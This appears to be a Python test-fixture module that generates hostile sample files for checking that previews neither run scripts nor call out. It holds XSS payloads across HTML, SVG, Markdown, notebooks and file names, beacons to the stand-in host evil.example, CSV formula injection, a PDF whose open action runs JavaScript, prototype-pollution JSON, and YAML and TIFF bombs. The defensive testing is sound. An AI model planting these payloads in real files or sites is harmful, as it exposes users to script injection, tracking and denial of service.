"""Files that try to run something, or to tell another host that they were looked at."""

import base64
import json
import struct

EVIL = "https://evil.example"
SET = "window.top.owned = true"

HTML = f"""<!doctype html><html><head>
<script>{SET}; fetch('{EVIL}/head')</script>
<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/style.css"><base href="{EVIL}/">
<style>@import url('{EVIL}/import.css'); body {{ background: url('{EVIL}/background') }}</style></head>
<body onload="{SET}"><p>Visible text</p><img src="{EVIL}/pixel.png" onerror="{SET}"><img src=x onerror="{SET}">
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{SET}</script>"></iframe><object data="{EVIL}/object"></object>
<form action="/api/v1/auth/logout" method="post"><button>Press</button></form><a href="javascript:{SET}">link</a>
<svg onload="{SET}"><script>{SET}</script></svg><math><mtext><script>{SET}</script></mtext></math>
<video src="{EVIL}/video" autoplay></video><audio src="{EVIL}/audio" autoplay></audio></body></html>"""

SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" onload="{SET}">
<script>{SET}; fetch('{EVIL}/svg')</script><rect width="80" height="80" fill="teal"/><image xlink:href="{EVIL}/image.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{SET}"/></foreignObject><use xlink:href="{EVIL}/x.svg#a"/></svg>"""

MARKDOWN = f"""# Visible heading <script>{SET}</script>

<script>{SET}</script>
<img src=x onerror="{SET}">

[link](javascript:{SET}) [data](data:text/html,<script>{SET}</script>) [vb](vbscript:x) <javascript:{SET}>
[![pixel]({EVIL}/pixel.png)](JaVaScRiPt:{SET}) ![pixel]({EVIL}/pixel2.png) ![local](../../../../secret)

| a | b |
|---|---|
| <iframe src="{EVIL}"></iframe> | `<b>` |
"""

NOTEBOOK = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"language_info": {"name": f"<script>{SET}</script>"}, "widgets": {"x": 1}},
        "cells": [
            {"cell_type": "markdown", "source": ["Visible cell <script>", SET, "</script> ![p](", EVIL, "/nb.png)"]},
            {
                "cell_type": "code",
                "source": "print(1)",
                "execution_count": 1,
                "outputs": [
                    {
                        "output_type": "display_data",
                        "data": {
                            "text/html": f"<script>{SET}</script><img src={EVIL}/out.png onerror={SET}>",
                            "application/javascript": SET,
                            "image/svg+xml": SVG,
                            "text/plain": "plain",
                        },
                    },
                    {"output_type": "display_data", "data": {"image/png": '" onerror="' + SET}},
                    {
                        "output_type": "display_data",
                        "data": {"text/html": f"<table onclick='{SET}'><tr><td>{HTML}</td></tr></table>", "text/plain": "table"},
                    },
                    {"output_type": "error", "ename": "E", "evalue": "v", "traceback": [f"\u001b[31m<script>{SET}</script>"]},
                ],
            },
        ],
    }
)

CSV = f'name,value\n=HYPERLINK("{EVIL}/csv"),@SUM(1)\n"<script>{SET}</script>",+cmd|x\n'


def pdf():
    """With a script that runs when it is opened, a link and a form that submits."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('"
        + EVIL.encode()
        + b"/pdf'\\); this.submitForm\\('"
        + EVIL.encode()
        + b"'\\)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /URI /URI ("
        + EVIL.encode()
        + b"/link) >> >> ] >>",
        b"<< /Length 44 >>\nstream\nBT /F1 18 Tf 20 50 Td (Visible PDF text) Tj ET\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table


GEOJSON = json.dumps(
    {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {f"<img src={EVIL} onerror={SET}>": f"<script>{SET}</script>", "__proto__": {"owned": True}},
                "geometry": {
                    "type": "Polygon",
                    "coordinates": [[[0, 0], [1, f"'/><script>{SET}</script>"], [1, 1], [1e308, -1e308], [0, 0]]],
                },
            }
        ],
    }
)


def tiff_bomb():
    """A picture of 3.6 thousand million pixels, as it says."""
    tags = [
        (256, 4, 60_000),
        (257, 4, 60_000),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (277, 3, 1),
        (278, 4, 60_000),
        (279, 4, 100),
    ]
    return (
        b"II*\0"
        + struct.pack("<IH", 8, len(tags))
        + b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
        + bytes(4)
    )


FILES = {
    "page.html": (HTML.encode(), "text/html"),
    "page.xhtml": (HTML.encode(), "application/xhtml+xml"),
    "drawing.svg": (SVG.encode(), "image/svg+xml"),
    "README.md": (MARKDOWN.encode(), "text/markdown"),
    "notebook.ipynb": (NOTEBOOK.encode(), "application/x-ipynb+json"),
    "table.csv": (CSV.encode(), "text/csv"),
    "data.json": (
        json.dumps({f"<script>{SET}</script>": f"<img src={EVIL} onerror={SET}>", "__proto__": {"owned": True}}).encode(),
        "application/json",
    ),
    "bomb.yaml": (
        b"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n",
        "text/yaml",
    ),
    "code.js": (f"</script><script>{SET}</script>".encode(), "text/javascript"),
    "lie.png": (HTML.encode(), "text/html"),
    "paper.pdf": (pdf(), "application/pdf"),
    "places.geojson": (GEOJSON.encode(), "application/geo+json"),
    "bomb.tif": (tiff_bomb(), "image/tiff"),
    "lie.arrow": (
        b"ARROW1\0\0" + b"\xff\xff\xff\xff\xff\xff\xff\x7f" + HTML.encode() + b"ARROW1",
        "application/vnd.apache.arrow.file",
    ),
    "film.mp4": (HTML.encode(), "video/mp4"),
    f"<img src=x onerror={SET.replace(' ', '')}>.txt": (b"named badly", "text/plain"),
    "a\"b'c\\d&e;f%2e?g#h\u202egnp.txt": (b"special characters", "text/plain"),
}

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAAAAADhZOFXAAAAK0lEQVR4nGP4DwMMDAxQBhMDAwMDAwMTAwMDAwMDEwMDAwMDAwMTAwMDAwMAdHoFAc3bBhsAAAAASUVORK5CYII="
)
